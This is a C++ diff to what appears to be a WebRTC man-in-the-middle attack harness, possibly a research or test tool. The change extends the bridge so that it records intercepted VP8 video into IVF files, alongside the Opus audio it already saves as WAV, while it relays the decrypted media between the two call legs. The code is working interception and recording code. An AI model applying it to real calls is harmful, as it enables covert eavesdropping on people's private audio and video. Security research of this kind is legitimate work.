@@ -7,6 +7,7 @@
 #include "attacks/sctp.hpp"
 #include "attacks/sdp_rewrite.hpp"
 #include "attacks/srtp_session.hpp"
+#include "attacks/vp8_recorder.hpp"
 #include "net/dtls_endpoint.hpp"
 #include "net/ice_agent.hpp"
 #include "trust/out_of_band.hpp"
@@ -63,6 +64,23 @@ std::map<int, std::pair<std::string, std::string>> rtp_payload_types(const sdp::
   return out;
 }
 
+// What the attacker writes of one SSRC: Opus as WAV, VP8 as IVF.
+struct Recording {
+  std::unique_ptr<OpusWavRecorder> opus;
+  std::unique_ptr<Vp8IvfRecorder> vp8;
+  // False when the payload did not decode (Opus) or was malformed or ended an incomplete frame (VP8).
+  bool add(const RtpHeader& h, std::span<const std::uint8_t> payload) {
+    return opus ? opus->add(payload) : vp8->add(h.sequence, h.timestamp, h.marker, payload);
+  }
+};
+
+// The encoding name of an a=rtpmap value ("VP8/90000" -> "vp8").
+std::string encoding_name(const std::string& rtpmap) {
+  std::string name = rtpmap.substr(0, rtpmap.find('/'));
+  for (auto& c : name) c = static_cast<char>(std::tolower(static_cast<unsigned char>(c)));
+  return name;
+}
+
 // Logs the 1st, 2nd, 4th, 8th… occurrence: a flood of bad packets stays a few lines.
 bool worth_logging(std::uint64_t n) { return n != 0 && (n & (n - 1)) == 0; }
 
@@ -95,7 +113,7 @@ struct MitmBridge::RoomBridge {
   RelayedMessage offer_msg;
   bool offer_forwarded = false;
   bool grind_started = false;
-  std::map<std::uint32_t, std::unique_ptr<OpusWavRecorder>> recorders;  // by SSRC
+  std::map<std::uint32_t, Recording> recorders;  // by SSRC
 
   RoomBridge(MitmBridge& b, std::string r) : bridge(b), room(std::move(r)) {
     // A channel is opened by one side and used by both: one table of labels.
@@ -307,24 +325,34 @@ struct MitmBridge::RoomBridge {
       ++stream.packets;
       stream.bytes += h->payload_size;
       if (auto r = recorders.find(h->ssrc); r != recorders.end())
-        if (!r->second->add(std::span(p).subspan(h->header_size, h->payload_size))) ++stream.undecodable;
+        if (!r->second.add(*h, std::span(p).subspan(h->header_size, h->payload_size))) ++stream.undecodable;
     }
     if (!to.srtp_out || !to.ready) return reject("the other leg has no SRTP yet");
     if (!to.srtp_out->protect(p, rtcp)) return reject("protect failed");
     to.ice->send(p);
   }
 
-  // Opus is decoded to a WAV file per SSRC when the world says where.
+  // Opus is decoded to a WAV file per SSRC, VP8 reassembled into an IVF
+  // file per SSRC, when the world says where.
   void start_recording(std::uint32_t ssrc, AttackerSessionReport::MediaStream& stream) {
     const std::string& dir = bridge.world_.media_dir;
-    std::string codec = stream.codec.substr(0, 4);
-    for (auto& c : codec) c = static_cast<char>(std::tolower(static_cast<unsigned char>(c)));
-    if (dir.empty() || codec != "opus" || recorders.size() >= 16) return;
-    const std::string path =
-        dir + "/" + safe_file_part(room) + "-" + safe_file_part(stream.from) + "-" + std::to_string(ssrc) + ".wav";
-    auto r = OpusWavRecorder::open(path);
-    if (!r) return event("attack.media", "cannot record: " + r.error().message);
-    recorders[ssrc] = std::move(*r);
+    const std::string codec = encoding_name(stream.codec);
+    if (dir.empty() || (codec != "opus" && codec != "vp8") || recorders.size() >= 16) return;
+    const std::string path = dir + "/" + safe_file_part(room) + "-" + safe_file_part(stream.from) + "-" +
+                             std::to_string(ssrc) + (codec == "opus" ? ".wav" : ".ivf");
+    Recording rec;
+    std::string error;
+    if (codec == "opus") {
+      auto r = OpusWavRecorder::open(path);
+      if (r) rec.opus = std::move(*r);
+      else error = r.error().message;
+    } else {
+      auto r = Vp8IvfRecorder::open(path);
+      if (r) rec.vp8 = std::move(*r);
+      else error = r.error().message;
+    }
+    if (!error.empty()) return event("attack.media", "cannot record: " + error);
+    recorders[ssrc] = std::move(rec);
     stream.files.push_back(path);
   }
 
